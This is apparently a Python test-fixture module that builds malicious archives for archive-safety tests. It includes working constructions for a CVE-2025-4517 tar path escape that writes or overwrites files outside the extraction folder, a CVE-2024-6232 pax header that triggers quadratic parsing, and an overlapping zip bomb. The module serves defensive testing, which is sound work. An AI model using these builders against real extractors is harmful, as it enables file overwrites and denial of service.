"""Crafted archives for the archive-safety tests (unit and integration): members are written
directly as TarInfo / ZipInfo, the way an attacker builds them, not from a folder on disk."""

from __future__ import annotations

import gzip
import io
import os
import stat
import tarfile
import zipfile

STEPS = "abcdefghijklmnop"


class TarMaker:
    """Builds a tar.gz member by member (PAX format, so long names are allowed)."""

    def __init__(self, compression: str = "gz"):
        self._buf = io.BytesIO()
        self._tar = tarfile.open(fileobj=self._buf, mode=f"w:{compression}", format=tarfile.PAX_FORMAT)

    def file(self, name: str, data: bytes = b"", mode: int = 0o644) -> TarMaker:
        info = tarfile.TarInfo(name)
        info.size, info.mode = len(data), mode
        self._tar.addfile(info, io.BytesIO(data))
        return self

    def dir(self, name: str, mode: int = 0o755) -> TarMaker:
        return self._add(name, tarfile.DIRTYPE, mode=mode)

    def symlink(self, name: str, target: str) -> TarMaker:
        return self._add(name, tarfile.SYMTYPE, linkname=target, mode=0o777)

    def hardlink(self, name: str, target: str) -> TarMaker:
        return self._add(name, tarfile.LNKTYPE, linkname=target)

    def special(self, name: str, kind: bytes) -> TarMaker:
        return self._add(name, kind, devmajor=1, devminor=3)

    def _add(self, name: str, kind: bytes, **fields) -> TarMaker:
        info = tarfile.TarInfo(name)
        info.type = kind
        for key, value in fields.items():
            setattr(info, key, value)
        self._tar.addfile(info)
        return self

    def bytes(self) -> bytes:
        self._tar.close()
        return self._buf.getvalue()


def realpath_overflow(dest: str, marker: str, climb: int = 1, hardlink: str | None = None) -> bytes:
    """The CVE-2025-4517 construction for an archive unpacked at ``dest`` (an absolute path).

    Sixteen folders with names wide enough that the unexpanded path fits in PATH_MAX, each with a
    one-letter link to it; a link below the sixteen links climbs back to ``dest``: expanding it
    overflows PATH_MAX, so ``os.path.realpath`` stops expanding and the path still looks inside.
    ``escape`` then leads ``climb`` levels above ``dest``, and ``escape/<marker>`` is written
    there. With ``hardlink``, ``flaglink`` is first made a hard link through it to ``escape/<hardlink>``
    (a file that must exist there) and then overwritten.
    """
    width = (os.pathconf("/", "PC_PATH_MAX") - len(dest) - 1) // (len(STEPS) + 1)
    folder = "d" * min(width, 250)
    maker = TarMaker()
    path = ""
    for step in STEPS:
        maker.dir(os.path.join(path, folder), mode=0o777)
        maker.symlink(os.path.join(path, step), folder)
        path = os.path.join(path, folder)
    long_link = os.path.join(*STEPS, "l" * 254)
    maker.symlink(long_link, os.path.join(*[".."] * len(STEPS)))
    maker.symlink("escape", os.path.join(long_link, *[".."] * climb))
    if hardlink:
        maker.hardlink("flaglink", os.path.join("escape", hardlink))
        maker.file("flaglink", b"overwritten")
    maker.file(f"escape/{marker}", b"escaped")
    return maker.bytes()


def zip_bytes(members: list[tuple[str, bytes, int | None]]) -> bytes:
    """A zip of (name, data, unix mode or None) members; a mode with S_IFLNK makes a symlink."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        for name, data, mode in members:
            info = zipfile.ZipInfo(name)
            if mode is not None:
                info.create_system = 3
                info.external_attr = mode << 16
            archive.writestr(info, data)
    return buf.getvalue()


ZIP_SYMLINK = stat.S_IFLNK | 0o777


def pax_record(keyword: bytes, value: bytes) -> bytes:
    """One ``<length> <keyword>=<value>\\n`` pax record, its length counting itself."""
    body = b" " + keyword + b"=" + value + b"\n"
    length = len(body) + 1
    while len(str(length)) + len(body) != length:
        length += 1
    return str(length).encode() + body


def raw_pax_tar(headers: list[tuple[bytes, bytes, str, bytes]], compression: str = "gz") -> bytes:
    """A tar of members each led by a pax header of raw bytes: (typeflag, pax data, name, file data).

    The pax data is written as is (after its ustar header), so it may be malformed; each member
    is a regular file ``name`` holding ``file data``.
    """
    out = io.BytesIO()
    for kind, pax, name, data in headers:
        header = tarfile.TarInfo("././@PaxHeader")
        header.type, header.size = kind, len(pax)
        out.write(header.tobuf(tarfile.USTAR_FORMAT) + pax + bytes(-len(pax) % tarfile.BLOCKSIZE))
        member = tarfile.TarInfo(name)
        member.size = len(data)
        out.write(member.tobuf(tarfile.USTAR_FORMAT) + data + bytes(-len(data) % tarfile.BLOCKSIZE))
    out.write(bytes(2 * tarfile.BLOCKSIZE))
    raw = out.getvalue()
    return gzip.compress(raw, 6) if compression == "gz" else raw


def cve_2024_6232(members: int, digits: int = 60_000) -> bytes:
    """The CVE-2024-6232 construction: before every member, a well-formed pax header whose one
    record's value is a run of ``digits`` digits; Python < 3.11.10 spends time quadratic in the
    run (``re.search(rb"\\d+ hdrcharset=...")``) parsing each header."""
    pax = pax_record(b"comment", b"7" * digits)
    return raw_pax_tar([(tarfile.XHDTYPE, pax, f"f{i}", b"x") for i in range(members)])


def overlapping_zip(copies: int, size: int = 1024 * 1024) -> bytes:
    """The overlapping "better zip bomb" (full overlap): ``copies`` central directory entries all
    pointing at one local header and its deflated data (zipfile wants the local name, so they
    share it), inflating the same compressed bytes ``copies`` times."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("kernel", bytes(size))
    data = buf.getvalue()
    central, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    directory = data[central:end] * copies
    eocd = bytearray(data[end:end + 22])
    eocd[8:10] = eocd[10:12] = copies.to_bytes(2, "little")
    eocd[12:16] = len(directory).to_bytes(4, "little")
    return data[:central] + directory + bytes(eocd)
